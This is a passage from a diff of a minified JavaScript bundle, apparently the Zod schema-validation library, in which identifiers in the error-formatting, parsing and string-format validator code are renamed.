 file:{unit:"bytes",verb:"to have"},array:{unit:"items",verb:"to have"},set:{unit:"items",verb:"to have"},map:{unit:"entr\
 ies",verb:"to have"}};function u(w){return a[w]??null}const f={regex:"input",email:"email address",url:"URL",emoji:"emoj\
 i",uuid:"UUID",uuidv4:"UUIDv4",uuidv6:"UUIDv6",nanoid:"nanoid",guid:"GUID",cuid:"cuid",cuid2:"cuid2",ulid:"ULID",xid:"XI\
@@ -2411,226 +2414,226 @@ e_of":return`Invalid number: must be a multiple of ${w.divisor}`;case"unrecogniz
 length>1?"s":""}: ${r.jw(w.keys,", ")}`;case"invalid_key":return`Invalid key in ${w.origin}`;case"invalid_union":return w.
 options&&Array.isArray(w.options)&&w.options.length>0?`Invalid discriminator value. Expected ${w.options.map(R=>`'${R}'`).
 join(" | ")}`:w.inclusive===!1?"Invalid input: more than one option matched":"Invalid input";case"invalid_element":return`\
-Invalid value in ${w.origin}`;default:return"Invalid input"}}};function kg(){return{localeError:vg()}}function Dg(){const a=this.
-_zod;return a.message??(a.message=JSON.stringify(a.def,r.k8,2)),a.message}function xg(a){this._zod.message=a}const Og={get:Dg,
-set:xg,enumerable:!0,configurable:!0},Uo={value:void 0,enumerable:!1},Lu=new WeakSet([Object.prototype,Error.prototype]),
-ju=(a,u)=>{a.name="$ZodError",Uo.value=u,Object.defineProperty(a,"issues",Uo),Uo.value=void 0,Object.defineProperty(a,"m\
-essage",Og);const f=Object.getPrototypeOf(a);Lu.has(f)||(Lu.add(f),Object.defineProperty(f,"toString",{configurable:!0,enumerable:!1,
+Invalid value in ${w.origin}`;default:return"Invalid input"}}};function Sg(){return{localeError:Ag()}}function Tg(){const a=this.
+_zod;return a.message??(a.message=JSON.stringify(a.def,r.k8,2)),a.message}function Ig(a){this._zod.message=a}const $g={get:Tg,
+set:Ig,enumerable:!0,configurable:!0},Jo={value:void 0,enumerable:!1},ju=new WeakSet([Object.prototype,Error.prototype]),
+Mu=(a,u)=>{a.name="$ZodError",Jo.value=u,Object.defineProperty(a,"issues",Jo),Jo.value=void 0,Object.defineProperty(a,"m\
+essage",$g);const f=Object.getPrototypeOf(a);ju.has(f)||(ju.add(f),Object.defineProperty(f,"toString",{configurable:!0,enumerable:!1,
 get(){const p=()=>this.message;return Object.defineProperty(this,"toString",{value:p,configurable:!0,writable:!0}),p},set(p){
-Object.defineProperty(this,"toString",{value:p,configurable:!0,writable:!0})}}))},Ag=(0,s.xI)("$ZodError",ju),hn=(0,s.xI)(
-"$ZodError",ju,void 0,{Parent:Error});function Sg(a,u,f){return Object.prototype.hasOwnProperty.call(a,u)||(u==="__proto\
-__"?Object.defineProperty(a,u,{value:f(),writable:!0,enumerable:!0,configurable:!0}):a[u]=f()),a[u]}function Tg(a,u=f=>f.
-message){const f={},p=[];for(const m of a.issues)m.path.length>0?Sg(f,m.path[0],()=>[]).push(u(m)):p.push(u(m));return{formErrors:p,
-fieldErrors:f}}function Ig(a,u=f=>f.message){const f={_errors:[]},p=(m,w=[])=>{for(const v of m.issues)if(v.code==="inva\
+Object.defineProperty(this,"toString",{value:p,configurable:!0,writable:!0})}}))},Rg=(0,s.xI)("$ZodError",Mu),hn=(0,s.xI)(
+"$ZodError",Mu,void 0,{Parent:Error});function Ng(a,u,f){return Object.prototype.hasOwnProperty.call(a,u)||(u==="__proto\
+__"?Object.defineProperty(a,u,{value:f(),writable:!0,enumerable:!0,configurable:!0}):a[u]=f()),a[u]}function Fg(a,u=f=>f.
+message){const f={},p=[];for(const m of a.issues)m.path.length>0?Ng(f,m.path[0],()=>[]).push(u(m)):p.push(u(m));return{formErrors:p,
+fieldErrors:f}}function Pg(a,u=f=>f.message){const f={_errors:[]},p=(m,w=[])=>{for(const v of m.issues)if(v.code==="inva\
 lid_union"&&v.errors.length)v.errors.map(R=>p({issues:R},[...w,...v.path]));else if(v.code==="invalid_key")p({issues:v.issues},
 [...w,...v.path]);else if(v.code==="invalid_element")p({issues:v.issues},[...w,...v.path]);else{const R=[...w,...v.path];
 if(R.length===0)f._errors.push(u(v));else{let G=f,j=0;for(;j<R.length;){const J=R[j],le=j===R.length-1;if(J==="_errors"){
 le&&G._errors.push(u(v)),j++;continue}Object.prototype.hasOwnProperty.call(G,J)||Object.defineProperty(G,J,{value:{_errors:[]},
-enumerable:!0,writable:!0,configurable:!0});const De=G[J];le&&De._errors.push(u(v)),G=De,j++}}}};return p(a),f}function F1(a,u=f=>f.
+enumerable:!0,writable:!0,configurable:!0});const De=G[J];le&&De._errors.push(u(v)),G=De,j++}}}};return p(a),f}function K1(a,u=f=>f.
 message){const f={errors:[]},p=(m,w=[])=>{var v;for(const R of m.issues)if(R.code==="invalid_union"&&R.errors.length)R.errors.
 map(G=>p({issues:G},[...w,...R.path]));else if(R.code==="invalid_key")p({issues:R.issues},[...w,...R.path]);else if(R.code===
 "invalid_element")p({issues:R.issues},[...w,...R.path]);else{const G=[...w,...R.path];if(G.length===0){f.errors.push(u(R));
 continue}let j=f,J=0;for(;J<G.length;){const le=G[J],De=J===G.length-1;typeof le=="string"?(j.properties??(j.properties=
 {}),Object.prototype.hasOwnProperty.call(j.properties,le)||Object.defineProperty(j.properties,le,{value:{errors:[]},enumerable:!0,
 writable:!0,configurable:!0}),j=j.properties[le]):(j.items??(j.items=[]),(v=j.items)[le]??(v[le]={errors:[]}),j=j.items[le]),
-De&&j.errors.push(u(R)),J++}}};return p(a),f}function $g(a){const u=[],f=a.map(p=>typeof p=="object"?p.key:p);for(const p of f)
+De&&j.errors.push(u(R)),J++}}};return p(a),f}function Lg(a){const u=[],f=a.map(p=>typeof p=="object"?p.key:p);for(const p of f)
 typeof p=="number"?u.push(`[${p}]`):typeof p=="symbol"?u.push(`[${JSON.stringify(String(p))}]`):/[^\w$]/.test(p)?u.push(
-`[${JSON.stringify(p)}]`):(u.length&&u.push("."),u.push(p));return u.join("")}function P1(a){const u=[],f=[...a.issues].
+`[${JSON.stringify(p)}]`):(u.length&&u.push("."),u.push(p));return u.join("")}function q1(a){const u=[],f=[...a.issues].
 sort((p,m)=>(p.path??[]).length-(m.path??[]).length);for(const p of f)u.push(`\u2716 ${p.message}`),p.path?.length&&u.push(
-`  \u2192 at ${$g(p.path)}`);return u.join(`
+`  \u2192 at ${Lg(p.path)}`);return u.join(`
 `)}function pi(a,u){return{callee:u?.callee??a,Err:u?.Err}}const mi=a=>{const u=(f,p,m,w)=>{const v=m?{...m,async:!1}:{async:!1},
 R=f._zod.run({value:p,issues:[]},v);if(R instanceof Promise)throw new s.GT;if(R.issues.length){const G=new(w?.Err??a)(R.
-issues.map(j=>r.iR(j,v,s.$W())));throw r.gx(G,w?.callee??u),G}return R.value};return u},L1=mi(hn),gi=a=>{const u=async(f,p,m,w)=>{
+issues.map(j=>r.iR(j,v,s.$W())));throw r.gx(G,w?.callee??u),G}return R.value};return u},Y1=mi(hn),gi=a=>{const u=async(f,p,m,w)=>{
 const v=m?{...m,async:!0}:{async:!0};let R=f._zod.run({value:p,issues:[]},v);if(R instanceof Promise&&(R=await R),R.issues.
 length){const G=new(w?.Err??a)(R.issues.map(j=>r.iR(j,v,s.$W())));throw r.gx(G,w?.callee??u),G}return R.value};return u},
-j1=gi(hn),Ci=a=>(u,f,p)=>{const m=p?{...p,async:!1}:{async:!1},w=u._zod.run({value:f,issues:[]},m);if(w instanceof Promise)
-throw new s.GT;return w.issues.length?Mu(a,w.issues,m):{success:!0,data:w.value}},M1=Ci(hn);function Mu(a,u,f){let p;return{
+V1=gi(hn),Ci=a=>(u,f,p)=>{const m=p?{...p,async:!1}:{async:!1},w=u._zod.run({value:f,issues:[]},m);if(w instanceof Promise)
+throw new s.GT;return w.issues.length?Gu(a,w.issues,m):{success:!0,data:w.value}},Q1=Ci(hn);function Gu(a,u,f){let p;return{
 success:!1,get error(){return p||(p=new a(u.map(m=>r.iR(m,f,s.$W()))),u=void 0,f=void 0),p},set error(m){p=m,u=void 0,f=
 void 0}}}const yi=a=>async(u,f,p)=>{const m=p?{...p,async:!0}:{async:!0};let w=u._zod.run({value:f,issues:[]},m);return w instanceof
-Promise&&(w=await w),w.issues.length?Mu(a,w.issues,m):{success:!0,data:w.value}},G1=yi(hn),Rg=Symbol.for("zod.compile.in\
-valid"),Ng=Symbol.for("zod.compile.fallback"),Fg=((a,u,f)=>{const p=a._zod.bag.validator;if(p!==void 0){if(p(u)!==Rg)return!0;
-if(p.definite===!0&&f===void 0)return!1}return Pg(a,u,f)});function Pg(a,u,f){const p=f?{...f,async:!1,abortEarly:!0}:{async:!1,
-abortEarly:!0},m=a._zod.bag.fallbackRun;let w;if(m?(p[Ng]=!0,w=m({value:u,issues:[]},p)):w=a._zod.run({value:u,issues:[]},
-p),w instanceof Promise)throw new s.GT;return w.issues.length===0}const Lg=async(a,u,f)=>{const p=f?{...f,async:!0,abortEarly:!0}:
+Promise&&(w=await w),w.issues.length?Gu(a,w.issues,m):{success:!0,data:w.value}},X1=yi(hn),jg=Symbol.for("zod.compile.in\
+valid"),Mg=Symbol.for("zod.compile.fallback"),Gg=((a,u,f)=>{const p=a._zod.bag.validator;if(p!==void 0){if(p(u)!==jg)return!0;
+if(p.definite===!0&&f===void 0)return!1}return Hg(a,u,f)});function Hg(a,u,f){const p=f?{...f,async:!1,abortEarly:!0}:{async:!1,
+abortEarly:!0},m=a._zod.bag.fallbackRun;let w;if(m?(p[Mg]=!0,w=m({value:u,issues:[]},p)):w=a._zod.run({value:u,issues:[]},
+p),w instanceof Promise)throw new s.GT;return w.issues.length===0}const zg=async(a,u,f)=>{const p=f?{...f,async:!0,abortEarly:!0}:
 {async:!0,abortEarly:!0};let m=a._zod.run({value:u,issues:[]},p);return m instanceof Promise&&(m=await m),m.issues.length===
-0},Gu=a=>{const u=mi(a),f=(p,m,w,v)=>{const R=w?{...w,direction:"backward"}:{direction:"backward"};return u(p,m,R,pi(f,v))};
-return f},H1=Gu(hn),Hu=a=>{const u=mi(a),f=(p,m,w,v)=>u(p,m,w,pi(f,v));return f},z1=Hu(hn),zu=a=>{const u=gi(a),f=async(p,m,w,v)=>{
-const R=w?{...w,direction:"backward"}:{direction:"backward"};return await u(p,m,R,pi(f,v))};return f},U1=zu(hn),Uu=a=>{const u=gi(
-a),f=async(p,m,w,v)=>await u(p,m,w,pi(f,v));return f},J1=Uu(hn),Ju=a=>(u,f,p)=>{const m=p?{...p,direction:"backward"}:{direction:"\
-backward"};return Ci(a)(u,f,m)},Z1=Ju(hn),Zu=a=>(u,f,p)=>Ci(a)(u,f,p),W1=Zu(hn),Wu=a=>async(u,f,p)=>{const m=p?{...p,direction:"\
-backward"}:{direction:"backward"};return yi(a)(u,f,m)},K1=Wu(hn),Ku=a=>async(u,f,p)=>yi(a)(u,f,p),q1=Ku(hn),qu=new WeakSet(
+0},Hu=a=>{const u=mi(a),f=(p,m,w,v)=>{const R=w?{...w,direction:"backward"}:{direction:"backward"};return u(p,m,R,pi(f,v))};
+return f},e$=Hu(hn),zu=a=>{const u=mi(a),f=(p,m,w,v)=>u(p,m,w,pi(f,v));return f},t$=zu(hn),Uu=a=>{const u=gi(a),f=async(p,m,w,v)=>{
+const R=w?{...w,direction:"backward"}:{direction:"backward"};return await u(p,m,R,pi(f,v))};return f},n$=Uu(hn),Ju=a=>{const u=gi(
+a),f=async(p,m,w,v)=>await u(p,m,w,pi(f,v));return f},s$=Ju(hn),Zu=a=>(u,f,p)=>{const m=p?{...p,direction:"backward"}:{direction:"\
+backward"};return Ci(a)(u,f,m)},r$=Zu(hn),Wu=a=>(u,f,p)=>Ci(a)(u,f,p),i$=Wu(hn),Ku=a=>async(u,f,p)=>{const m=p?{...p,direction:"\
+backward"}:{direction:"backward"};return yi(a)(u,f,m)},o$=Ku(hn),qu=a=>async(u,f,p)=>yi(a)(u,f,p),a$=qu(hn),Yu=new WeakSet(
 [Object.prototype,Error.prototype]);function wi(a,u,f){Object.defineProperty(a,u,{configurable:!0,enumerable:!1,get(){const p=f(
 this);return Object.defineProperty(this,u,{value:p,configurable:!0,writable:!0}),p},set(p){Object.defineProperty(this,u,
-{value:p,configurable:!0,writable:!0})}})}const jg=(a,u)=>{Ag.init(a,u),a.name="ZodError";const f=Object.getPrototypeOf(
-a);qu.has(f)||(qu.add(f),wi(f,"format",p=>m=>Ig(p,m)),wi(f,"flatten",p=>m=>Tg(p,m)),wi(f,"addIssue",p=>m=>{p.issues.push(
+{value:p,configurable:!0,writable:!0})}})}const Ug=(a,u)=>{Rg.init(a,u),a.name="ZodError";const f=Object.getPrototypeOf(
+a);Yu.has(f)||(Yu.add(f),wi(f,"format",p=>m=>Pg(p,m)),wi(f,"flatten",p=>m=>Fg(p,m)),wi(f,"addIssue",p=>m=>{p.issues.push(
 m),p.message=JSON.stringify(p.issues,r.k8,2)}),wi(f,"addIssues",p=>m=>{p.issues.push(...m),p.message=JSON.stringify(p.issues,
-r.k8,2)}),Object.defineProperty(f,"isEmpty",{configurable:!0,enumerable:!1,get(){return this.issues.length===0}}))},Y1=null,
-pn=s.xI("ZodError",jg,void 0,{Parent:Error}),Mg=mi(pn),Gg=gi(pn),Hg=Ci(pn),zg=yi(pn),Ug=Gu(pn),Jg=Hu(pn),Zg=zu(pn),Wg=Uu(
-pn),Kg=Ju(pn),qg=Zu(pn),Yg=Wu(pn),Vg=Ku(pn);function Qg(){s.cr.localeError||s.$W(kg())}function Cr(){s.cr.memoizer||s.$W(
-{memoizer:z()})}const kt=s.xI("ZodType",(a,u)=>(Qg(),W.init(a,u),a.def=u,a.type=u.type,a),{check(...a){const u=this.def;
+r.k8,2)}),Object.defineProperty(f,"isEmpty",{configurable:!0,enumerable:!1,get(){return this.issues.length===0}}))},c$=null,
+pn=s.xI("ZodError",Ug,void 0,{Parent:Error}),Jg=mi(pn),Zg=gi(pn),Wg=Ci(pn),Kg=yi(pn),qg=Hu(pn),Yg=zu(pn),Vg=Uu(pn),Qg=Ju(
+pn),Xg=Zu(pn),eC=Wu(pn),tC=Ku(pn),nC=qu(pn);function sC(){s.cr.localeError||s.$W(Sg())}function Cr(){s.cr.memoizer||s.$W(
+{memoizer:z()})}const kt=s.xI("ZodType",(a,u)=>(sC(),W.init(a,u),a.def=u,a.type=u.type,a),{check(...a){const u=this.def;
 return this.clone(r.zM(u,{checks:[...u.checks??[],...a.map(f=>typeof f=="function"?{_zod:{check:f,def:{check:"custom"},onattach:[]}}:
 f)]}),{parent:!0})},with(...a){return this.check(...a)},clone(a,u){return r.o8(this,a,u)},brand(){return this},register(a,u){
-return a.add(this,u),this},refine(a,u){return this.check(XC(a,u))},superRefine(a,u){return this.check(ey(a,u))},overwrite(a){
-return this.check(ve.bS(a))},optional(){return Yo(this)},exactOptional(){return $C(this)},nullable(){return Vo(this)},nullish(){
-return Yo(Vo(this))},nonoptional(a){return jC(this,a)},array(){return _i(this)},or(a){return _l([this,a])},and(a){return EC(
-this,a)},transform(a){return xl(this,vl(a))},default(a){return FC(this,a)},prefault(a){return LC(this,a)},catch(a){return HC(
-this,a)},pipe(a){return xl(this,a)},readonly(){return WC(this)},describe(a){const u=this.clone();return Zn.fd.add(u,{description:a}),
+return a.add(this,u),this},refine(a,u){return this.check(ry(a,u))},superRefine(a,u){return this.check(iy(a,u))},overwrite(a){
+return this.check(ve.bS(a))},optional(){return Vo(this)},exactOptional(){return LC(this)},nullable(){return Qo(this)},nullish(){
+return Vo(Qo(this))},nonoptional(a){return UC(this,a)},array(){return _i(this)},or(a){return El([this,a])},and(a){return OC(
+this,a)},transform(a){return Ol(this,kl(a))},default(a){return GC(this,a)},prefault(a){return zC(this,a)},catch(a){return WC(
+this,a)},pipe(a){return Ol(this,a)},readonly(){return QC(this)},describe(a){const u=this.clone();return Zn.fd.add(u,{description:a}),
 u},meta(...a){if(a.length===0)return Zn.fd.get(this);const u=this.clone();return Zn.fd.add(u,a[0]),u},isOptional(){return this.
 safeParse(void 0).success},isNullable(){return this.safeParse(null).success},apply(a,...u){return u.length===0?a(this):a(
-this,...u)},get"~standard"(){return r.jD(this,"~standard",{...ke(this),jsonSchema:{input:Hs(this,"input"),output:Hs(this,
-"output")}})},set"~standard"(a){r.qh(this,"~standard",a)},parse:function a(u,f){return Mg(this,u,f,{callee:a})},parseAsync:async function a(u,f){
-return await Gg(this,u,f,{callee:a})},safeParse(a,u){return Hg(this,a,u)},async safeParseAsync(a,u){return zg(this,a,u)},
-get spa(){return this?.safeParseAsync},set spa(a){r.qh(this,"spa",a)},validate(a,u){return Fg(this,a,u)},validateAsync(a,u){
-return Lg(this,a,u)},encode:function a(u,f){return Ug(this,u,f,{callee:a})},decode:function a(u,f){return Jg(this,u,f,{callee:a})},
-encodeAsync:async function a(u,f){return await Zg(this,u,f,{callee:a})},decodeAsync:async function a(u,f){return await Wg(
-this,u,f,{callee:a})},safeEncode(a,u){return Kg(this,a,u)},safeDecode(a,u){return qg(this,a,u)},async safeEncodeAsync(a,u){
-return Yg(this,a,u)},async safeDecodeAsync(a,u){return Vg(this,a,u)},toJSONSchema(a){return pu(this,{})(a)},get description(){
-return Zn.fd.get(this)?.description},get _def(){return this._zod.def}}),Yu=s.xI("_ZodString",(a,u)=>{Te.init(a,u),kt.init(
-a,u),a._zod.processJSONSchema=(f,p,m)=>Us(a,f,p,m)},r.un({format:a=>Le(a).format??null,minLength:a=>Le(a).minimum??null,
+this,...u)},get"~standard"(){return r.jD(this,"~standard",{...ke(this),jsonSchema:{input:zs(this,"input"),output:zs(this,
+"output")}})},set"~standard"(a){r.qh(this,"~standard",a)},parse:function a(u,f){return Jg(this,u,f,{callee:a})},parseAsync:async function a(u,f){
+return await Zg(this,u,f,{callee:a})},safeParse(a,u){return Wg(this,a,u)},async safeParseAsync(a,u){return Kg(this,a,u)},
+get spa(){return this?.safeParseAsync},set spa(a){r.qh(this,"spa",a)},validate(a,u){return Gg(this,a,u)},validateAsync(a,u){
+return zg(this,a,u)},encode:function a(u,f){return qg(this,u,f,{callee:a})},decode:function a(u,f){return Yg(this,u,f,{callee:a})},
+encodeAsync:async function a(u,f){return await Vg(this,u,f,{callee:a})},decodeAsync:async function a(u,f){return await Qg(
+this,u,f,{callee:a})},safeEncode(a,u){return Xg(this,a,u)},safeDecode(a,u){return eC(this,a,u)},async safeEncodeAsync(a,u){
+return tC(this,a,u)},async safeDecodeAsync(a,u){return nC(this,a,u)},toJSONSchema(a){return mu(this,{})(a)},get description(){
+return Zn.fd.get(this)?.description},get _def(){return this._zod.def}}),Vu=s.xI("_ZodString",(a,u)=>{Te.init(a,u),kt.init(
+a,u),a._zod.processJSONSchema=(f,p,m)=>Js(a,f,p,m)},r.un({format:a=>Le(a).format??null,minLength:a=>Le(a).minimum??null,
 maxLength:a=>Le(a).maximum??null},{regex(...a){return this.check(ve.Fk(...a))},includes(...a){return this.check(ve.dR(...a))},
 startsWith(...a){return this.check(ve.$S(...a))},endsWith(...a){return this.check(ve.ER(...a))},min(...a){return this.check(
 ve.m9(...a))},max(...a){return this.check(ve.Eb(...a))},length(...a){return this.check(ve.YA(...a))},nonempty(...a){return this.
 check(ve.m9(1,...a))},lowercase(a){return this.check(ve.hH(a))},uppercase(a){return this.check(ve.qF(a))},trim(){return this.
 check(ve.WN())},normalize(...a){return this.check(ve.lo(...a))},toLowerCase(){return this.check(ve.Il())},toUpperCase(){
-return this.check(ve.xY())},slugify(){return this.check(ve.TL())}})),Vu=s.xI("ZodString",(a,u)=>{Te.init(a,u),Yu.init(a,
-u)},{email(a){return this.check(ve.Mu(Xu,a))},url(a){return this.check(ve.Fn(Jo,a))},jwt(a){return this.check(ve.rk(pl,a))},
-emoji(a){return this.check(ve.aC(tl,a))},guid(a){return this.check(ve.tB(el,a))},uuid(a){return this.check(ve.Be(ss,a))},
+return this.check(ve.xY())},slugify(){return this.check(ve.TL())}})),Qu=s.xI("ZodString",(a,u)=>{Te.init(a,u),Vu.init(a,
+u)},{email(a){return this.check(ve.Mu(el,a))},url(a){return this.check(ve.Fn(Zo,a))},jwt(a){return this.check(ve.rk(ml,a))},
+emoji(a){return this.check(ve.aC(nl,a))},guid(a){return this.check(ve.tB(tl,a))},uuid(a){return this.check(ve.Be(ss,a))},
 uuidv4(a){return this.check(ve.nA(ss,a))},uuidv6(a){return this.check(ve.pY(ss,a))},uuidv7(a){return this.check(ve.wA(ss,
-a))},nanoid(a){return this.check(ve.Dl(nl,a))},cuid(a){return this.check(ve.fs(sl,a))},cuid2(a){return this.check(ve.Bj(
-rl,a))},ulid(a){return this.check(ve.Ct(il,a))},base64(a){return this.check(ve.rt(Bl,a))},base64url(a){return this.check(
-ve.cU(fl,a))},xid(a){return this.check(ve.Pw(ol,a))},ksuid(a){return this.check(ve._z(al,a))},ipv4(a){return this.check(
-ve.Ny(cl,a))},ipv6(a){return this.check(ve.$O(ul,a))},cidrv4(a){return this.check(ve.Uy(ll,a))},cidrv6(a){return this.check(
-ve.gP(dl,a))},e164(a){return this.check(ve.KB(hl,a))},datetime(a){return this.check(ve.G1(Qu,a))},date(a){return this.check(
-ve.db(Xg,a))},time(a){return this.check(ve.Kn(eC,a))},duration(a){return this.check(ve.f2(tC,a))}});function bi(a){return ve.
-Rl(Vu,a)}const St=s.xI("ZodStringFormat",(a,u)=>{V.init(a,u),Yu.init(a,u)}),Qu=s.xI("ZodISODateTime",(a,u)=>{re.init(a,u),
-St.init(a,u)}),Xg=s.xI("ZodISODate",(a,u)=>{gt.init(a,u),St.init(a,u)}),eC=s.xI("ZodISOTime",(a,u)=>{tt.init(a,u),St.init(
-a,u)}),tC=s.xI("ZodISODuration",(a,u)=>{ye.init(a,u),St.init(a,u)}),Xu=s.xI("ZodEmail",(a,u)=>{pe.init(a,u),St.init(a,u)});
-function V1(a){return core._email(Xu,a)}const el=s.xI("ZodGUID",(a,u)=>{q.init(a,u),St.init(a,u)});function Q1(a){return core.
-_guid(el,a)}const ss=s.xI("ZodUUID",(a,u)=>{U.init(a,u),St.init(a,u)});function X1(a){return core._uuid(ss,a)}function e$(a){
-return core._uuidv4(ss,a)}function t$(a){return core._uuidv6(ss,a)}function n$(a){return core._uuidv7(ss,a)}const Jo=s.xI(
-"ZodURL",(a,u)=>{Ge.init(a,u),St.init(a,u)});function s$(a){return core._url(Jo,a)}function r$(a){return core._url(Jo,{protocol:regexes.
-httpProtocol,hostname:regexes.domain,...util.normalizeParams(a)})}const tl=s.xI("ZodEmoji",(a,u)=>{de.init(a,u),St.init(
-a,u)});function i$(a){return core._emoji(tl,a)}const nl=s.xI("ZodNanoID",(a,u)=>{Se.init(a,u),St.init(a,u)});function o$(a){
-return core._nanoid(nl,a)}const sl=s.xI("ZodCUID",(a,u)=>{ne.init(a,u),St.init(a,u)});function a$(a){return core._cuid(sl,
-a)}const rl=s.xI("ZodCUID2",(a,u)=>{rt.init(a,u),St.init(a,u)});function c$(a){return core._cuid2(rl,a)}const il=s.xI("Z\
-odULID",(a,u)=>{it.init(a,u),St.init(a,u)});function u$(a){return core._ulid(il,a)}const ol=s.xI("ZodXID",(a,u)=>{ct.init(
-a,u),St.init(a,u)});function l$(a){return core._xid(ol,a)}const al=s.xI("ZodKSUID",(a,u)=>{ie.init(a,u),St.init(a,u)});function d$(a){
-return core._ksuid(al,a)}const cl=s.xI("ZodIPv4",(a,u)=>{wt.init(a,u),St.init(a,u)});function B$(a){return core._ipv4(cl,
-a)}const nC=null;function f$(a){return core._mac(nC,a)}const ul=s.xI("ZodIPv6",(a,u)=>{We.init(a,u),St.init(a,u)});function h$(a){
-return core._ipv6(ul,a)}const ll=s.xI("ZodCIDRv4",(a,u)=>{we.init(a,u),St.init(a,u)});function p$(a){return core._cidrv4(
-ll,a)}const dl=s.xI("ZodCIDRv6",(a,u)=>{Pe.init(a,u),St.init(a,u)});function m$(a){return core._cidrv6(dl,a)}const Bl=s.
-xI("ZodBase64",(a,u)=>{lt.init(a,u),St.init(a,u)});function g$(a){return core._base64(Bl,a)}const fl=s.xI("ZodBase64URL",
-(a,u)=>{dt.init(a,u),St.init(a,u)});function C$(a){return core._base64url(fl,a)}const hl=s.xI("ZodE164",(a,u)=>{bt.init(
-a,u),St.init(a,u)});function y$(a){return core._e164(hl,a)}const sC=null;function w$(a){return core._creditCard(sC,a)}const rC=null;
-function b$(a){return core._iban(rC,a)}const pl=s.xI("ZodJWT",(a,u)=>{$s.init(a,u),St.init(a,u)});function _$(a){return core.
-_jwt(pl,a)}const yr=null;function E$(a,u,f={}){return core._stringFormat(yr,a,u,f)}function v$(a){return core._stringFormat(
-yr,"hostname",regexes.hostname,a)}function k$(a){return core._stringFormat(yr,"hex",regexes.hex,a)}function D$(a){return core.
-_stringFormat(yr,"currency_code",regexes.currencyCode,a)}function x$(a,u){const f=u?.enc??"hex",p=`${a}_${f}`,m=core.regexes[p];
-if(!m)throw new Error(`Unrecognized hash format: ${p}`);return core._stringFormat(yr,p,m,u)}const ml=s.xI("ZodNumber",(a,u)=>{
+a))},nanoid(a){return this.check(ve.Dl(sl,a))},cuid(a){return this.check(ve.fs(rl,a))},cuid2(a){return this.check(ve.Bj(
+il,a))},ulid(a){return this.check(ve.Ct(ol,a))},base64(a){return this.check(ve.rt(fl,a))},base64url(a){return this.check(
+ve.cU(hl,a))},xid(a){return this.check(ve.Pw(al,a))},ksuid(a){return this.check(ve._z(cl,a))},ipv4(a){return this.check(
+ve.Ny(ul,a))},ipv6(a){return this.check(ve.$O(ll,a))},cidrv4(a){return this.check(ve.Uy(dl,a))},cidrv6(a){return this.check(
+ve.gP(Bl,a))},e164(a){return this.check(ve.KB(pl,a))},datetime(a){return this.check(ve.G1(Xu,a))},date(a){return this.check(
+ve.db(rC,a))},time(a){return this.check(ve.Kn(iC,a))},duration(a){return this.check(ve.f2(oC,a))}});function bi(a){return ve.
+Rl(Qu,a)}const St=s.xI("ZodStringFormat",(a,u)=>{V.init(a,u),Vu.init(a,u)}),Xu=s.xI("ZodISODateTime",(a,u)=>{re.init(a,u),
+St.init(a,u)}),rC=s.xI("ZodISODate",(a,u)=>{gt.init(a,u),St.init(a,u)}),iC=s.xI("ZodISOTime",(a,u)=>{tt.init(a,u),St.init(
+a,u)}),oC=s.xI("ZodISODuration",(a,u)=>{ye.init(a,u),St.init(a,u)}),el=s.xI("ZodEmail",(a,u)=>{pe.init(a,u),St.init(a,u)});
+function u$(a){return core._email(el,a)}const tl=s.xI("ZodGUID",(a,u)=>{q.init(a,u),St.init(a,u)});function l$(a){return core.
+_guid(tl,a)}const ss=s.xI("ZodUUID",(a,u)=>{U.init(a,u),St.init(a,u)});function d$(a){return core._uuid(ss,a)}function B$(a){
+return core._uuidv4(ss,a)}function f$(a){return core._uuidv6(ss,a)}function h$(a){return core._uuidv7(ss,a)}const Zo=s.xI(
+"ZodURL",(a,u)=>{Ge.init(a,u),St.init(a,u)});function p$(a){return core._url(Zo,a)}function m$(a){return core._url(Zo,{protocol:regexes.
+httpProtocol,hostname:regexes.domain,...util.normalizeParams(a)})}const nl=s.xI("ZodEmoji",(a,u)=>{de.init(a,u),St.init(
+a,u)});function g$(a){return core._emoji(nl,a)}const sl=s.xI("ZodNanoID",(a,u)=>{Se.init(a,u),St.init(a,u)});function C$(a){
+return core._nanoid(sl,a)}const rl=s.xI("ZodCUID",(a,u)=>{ne.init(a,u),St.init(a,u)});function y$(a){return core._cuid(rl,
+a)}const il=s.xI("ZodCUID2",(a,u)=>{rt.init(a,u),St.init(a,u)});function w$(a){return core._cuid2(il,a)}const ol=s.xI("Z\
+odULID",(a,u)=>{it.init(a,u),St.init(a,u)});function b$(a){return core._ulid(ol,a)}const al=s.xI("ZodXID",(a,u)=>{ct.init(
+a,u),St.init(a,u)});function _$(a){return core._xid(al,a)}const cl=s.xI("ZodKSUID",(a,u)=>{ie.init(a,u),St.init(a,u)});function E$(a){
+return core._ksuid(cl,a)}const ul=s.xI("ZodIPv4",(a,u)=>{wt.init(a,u),St.init(a,u)});function v$(a){return core._ipv4(ul,
+a)}const aC=null;function k$(a){return core._mac(aC,a)}const ll=s.xI("ZodIPv6",(a,u)=>{We.init(a,u),St.init(a,u)});function D$(a){
+return core._ipv6(ll,a)}const dl=s.xI("ZodCIDRv4",(a,u)=>{we.init(a,u),St.init(a,u)});function x$(a){return core._cidrv4(
+dl,a)}const Bl=s.xI("ZodCIDRv6",(a,u)=>{Pe.init(a,u),St.init(a,u)});function O$(a){return core._cidrv6(Bl,a)}const fl=s.
+xI("ZodBase64",(a,u)=>{lt.init(a,u),St.init(a,u)});function A$(a){return core._base64(fl,a)}const hl=s.xI("ZodBase64URL",
+(a,u)=>{dt.init(a,u),St.init(a,u)});function S$(a){return core._base64url(hl,a)}const pl=s.xI("ZodE164",(a,u)=>{bt.init(
+a,u),St.init(a,u)});function T$(a){return core._e164(pl,a)}const cC=null;function I$(a){return core._creditCard(cC,a)}const uC=null;
+function $$(a){return core._iban(uC,a)}const ml=s.xI("ZodJWT",(a,u)=>{Rs.init(a,u),St.init(a,u)});function R$(a){return core.
+_jwt(ml,a)}const yr=null;function N$(a,u,f={}){return core._stringFormat(yr,a,u,f)}function F$(a){return core._stringFormat(
+yr,"hostname",regexes.hostname,a)}function P$(a){return core._stringFormat(yr,"hex",regexes.hex,a)}function L$(a){return core.
+_stringFormat(yr,"currency_code",regexes.currencyCode,a)}function j$(a,u){const f=u?.enc??"hex",p=`${a}_${f}`,m=core.regexes[p];
+if(!m)throw new Error(`Unrecognized hash format: ${p}`);return core._stringFormat(yr,p,m,u)}const gl=s.xI("ZodNumber",(a,u)=>{
 Qn.init(a,u),kt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>fi(a,f,p,m),a.isFinite=!0},r.un({minValue:a=>{const{minimum:u,
